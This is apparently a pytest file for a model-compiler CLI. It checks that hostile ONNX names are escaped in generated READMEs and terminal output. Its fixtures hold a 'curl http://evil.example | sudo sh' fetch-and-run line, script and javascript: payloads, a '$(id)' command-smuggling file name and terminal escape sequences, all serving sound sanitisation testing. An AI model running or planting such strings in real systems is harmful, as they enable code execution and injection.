"""Model-derived text in generated text files and on the terminal (issue 20 items 7, 8, 11's probe lines)."""
from __future__ import annotations

import io
import re
import subprocess
import sys
from pathlib import Path

import numpy as np
import pytest

import hostile_models as H

ROOT = Path(__file__).resolve().parent.parent

#: A fake "On the Pi" section with a curl | sudo sh, raw HTML, a link and backtick runs.
MARKUP_IN = "x`\n\n## On the Pi\n\n```sh\ncurl http://evil.example | sudo sh\n```\n\n`"
MARKUP_OUT = "<script>alert(1)</script>`` ` [click](javascript:alert(1)) **bold** | a |\r\n# h1"
#: Screen clear, cursor home, colours, an OSC-52 clipboard write, a bidi override.
TERMINAL = "\x1b[2J\x1b[H\x1b[31mred\x1b]52;c;cHduZWQ=\x07\u202eevil\x08\r"


def cli(*args):
    import contextlib

    from edgecomp import cli as ec_cli
    out, err = io.StringIO(), io.StringIO()
    with contextlib.redirect_stdout(out), contextlib.redirect_stderr(err):
        rc = ec_cli.main([str(a) for a in args])
    return rc, out.getvalue(), err.getvalue()


def _tokens(md: str) -> list:
    from markdown_it import MarkdownIt
    flat = []
    for t in MarkdownIt("commonmark").parse(md):
        flat.append(t)
        flat.extend(t.children or [])
    return flat


def _pi_readme(tmp_path: Path, names: dict) -> str:
    d = tmp_path / ("hostile" if names else "plain")
    d.mkdir()
    (d / "net.onnx").write_bytes(H.gemm(names))
    rc, out, err = cli("compile", d / "net.onnx", "-t", "rpi4", "--precision", "float32", "-o", d / "b")
    assert rc == 0, err
    return (d / "b" / "README.md").read_text()


def test_pi_readme_shows_hostile_names_as_literal_text(tmp_path):
    pytest.importorskip("markdown_it")
    plain = _tokens(_pi_readme(tmp_path, {}))
    hostile_md = _pi_readme(tmp_path, {"x": MARKUP_IN, "y": MARKUP_OUT})
    hostile = _tokens(hostile_md)
    # the same document structure as with plain names: no new heading, fence, HTML, link or list item
    assert [t.type for t in hostile] == [t.type for t in plain]
    assert not any(t.type in ("html_block", "html_inline", "link_open") for t in hostile)
    heads = [hostile[i + 1].content for i, t in enumerate(hostile) if t.type == "heading_open"]
    assert "On the Pi" in heads and heads.count("On the Pi") == 1
    fences = [t.content for t in hostile if t.type == "fence"]
    assert not any("evil.example" in f for f in fences)
    # the names are there, as code spans, with their control characters visible as escapes
    code = " ".join(t.content for t in hostile if t.type == "code_inline")
    assert "<script>alert(1)</script>" in code and "curl http://evil.example | sudo sh" in code
    assert "\\x0a" in code and "\r" not in hostile_md


def test_pi_bundle_model_file_name_follows_the_c_rule(tmp_path):
    bad = tmp_path / "net`$(id)<script>.onnx"
    bad.write_bytes(H.gemm())
    rc, out, err = cli("compile", bad, "-t", "rpi4", "--precision", "float32", "-o", tmp_path / "b")
    assert rc == 2 and "model name" in err and not (tmp_path / "b").exists()


@pytest.mark.toolchain
def test_terminal_control_characters_are_escaped_in_info_compile_run_and_errors(tmp_path):
    names = {"x": "in" + TERMINAL, "y": "out" + TERMINAL, "fc": "fc" + TERMINAL, "graph": "g" + TERMINAL}
    (tmp_path / "net.onnx").write_bytes(H.gemm(names))
    np.save(tmp_path / "x.npy", np.ones((2, 8), np.float32))
    texts = []
    for args in (["info", tmp_path / "net.onnx"],
                 ["compile", tmp_path / "net.onnx", "-t", "host", "--calib", tmp_path / "x.npy", "-o", tmp_path / "b"],
                 ["report", tmp_path / "b"],
                 ["run", tmp_path / "b", "--host", "--input", tmp_path / "x.npy"]):
        rc, out, err = cli(*args)
        assert rc == 0, err
        texts.append(out + err)
    # an error that names the node: one line, escaped
    import onnx
    m = onnx.load_from_string(H.gemm(names))
    m.graph.node[0].op_type = "Mul"  # a valid ONNX op edgecomp refuses, naming the node
    del m.graph.node[0].attribute[:]
    (tmp_path / "bad.onnx").write_bytes(m.SerializeToString())
    rc, out, err = cli("compile", tmp_path / "bad.onnx", "-t", "host", "--precision", "float32", "-o", tmp_path / "c")
    assert rc == 2 and len(err.strip().splitlines()) == 1
    texts.append(out + err)
    for text in texts:
        assert not re.search("[\x00-\x08\x0b-\x1f\x7f\u202e]", text), repr(text[:400])
    assert all("\\x1b" in t for t in texts[:1] + texts[2:])  # the names are shown, escaped


def test_probe_parser_memory_is_bounded(tmp_path):
    """20 MB of '@ec begin' lines (the review measured 738 MB in the parser)."""
    code = ("import resource, sys; from edgecomp.probe import parse_probe;"
            "r = parse_probe('@ec begin model=m layers=3 unit=ns\\n' * 550000 + '@ec layer 0 5\\n@ec end\\n');"
            "assert r.complete and r.layer_ticks == {0: 5};"
            "print(next(int(l.split()[1]) for l in open('/proc/self/status') if l.startswith('VmHWM')) // 1024)")
    # (VmHWM: this process's own peak; ru_maxrss carries the parent's peak over exec, pytest's)
    p = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, timeout=120,
                       env={"PYTHONPATH": str(ROOT), "PATH": "/usr/bin:/bin"})
    assert p.returncode == 0, p.stderr
    assert int(p.stdout) < 200, f"{p.stdout.strip()} MiB"
